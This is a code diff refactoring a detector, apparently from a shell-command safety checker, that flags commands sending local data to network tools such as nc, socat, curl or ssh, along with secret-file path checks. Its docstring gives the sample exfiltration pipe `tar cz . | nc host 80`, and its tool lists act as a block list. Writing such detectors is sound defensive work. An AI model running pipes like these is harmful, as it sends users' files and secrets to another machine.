@@ -214,18 +214,17 @@ class _Assessor:
     def _sends_input(self, command: Command) -> None:
         """`tar cz . | nc host 80`: what is fed to a program of the network leaves this machine."""
         program = _name(command)
+        if program not in _TAKE_INPUT:
+            return
         words = [word.text for word in command.words[1:]]
-        takes_input = (program in _NETWORK_PIPES and program != "openssl") or "s_client" in words
-        takes_input = takes_input or (
-            program in ("curl", "wget", "http") and any(re.search(r"@-$|^-$", w) for w in words)
-        )
-        takes_input = takes_input or program in ("ssh", "sftp", "ftp")
+        if program in ("curl", "wget", "http") and not any(re.search(r"@-$|^-$", word) for word in words):
+            return
+        if program == "openssl" and "s_client" not in words:
+            return
         is_fed = any(_name(feeder) not in ("echo", "printf", "yes", "") for feeder in command.fed_by)
-        is_fed = is_fed or (
-            any(r.operator == "<" for r in command.redirects)
-            or (program in ("sftp", "ftp") and bool(command.redirects))
-        )
-        if takes_input and is_fed and not any(re.search(r"localhost|127\.0\.0\.1|::1", word) for word in words):
+        is_script = program in ("sftp", "ftp") and bool(command.redirects)
+        is_fed = is_fed or is_script or any(redirect.operator == "<" for redirect in command.redirects)
+        if is_fed and not any(re.search(r"localhost|127\.0\.0\.1|::1", word) for word in words):
             self.found.add("danger", "network:upload", f"`{program}` sends what it is given to another machine")
 
     def _program(self, command: Command, depth: int, functions: frozenset[str]) -> None:
@@ -409,7 +408,9 @@ class _Assessor:
         if hides or program in _NO_FILES:
             return
         for word in words:
-            for text in (*word.texts, *word.guesses, *(() if word.texts else (word.shown,))):
+            for text in word.texts or (*word.guesses, word.shown):
+                if len(text) == 2 and text[0] == "-":
+                    continue
                 for path in paths_in(text):
                     if path and is_secret(path, command.folder, self._around, globs=word.globs) and not _is_prose(path):
                         self.found.add(
@@ -507,6 +508,7 @@ _ALSO_LOOKS = frozenset(
 )
 """Programs that sometimes run others and sometimes only look."""
 _NETWORK_PIPES = frozenset(("nc", "ncat", "netcat", "telnet", "socat", "openssl"))
+_TAKE_INPUT = _NETWORK_PIPES | frozenset(("curl", "wget", "http", "ssh", "sftp", "ftp"))
 _NO_FILES = frozenset(
     ("kubectl", "docker", "podman", "npm", "pip", "pip3", "cargo", "go", "gh", "apt", "brew", "man", "help", "history")
 )
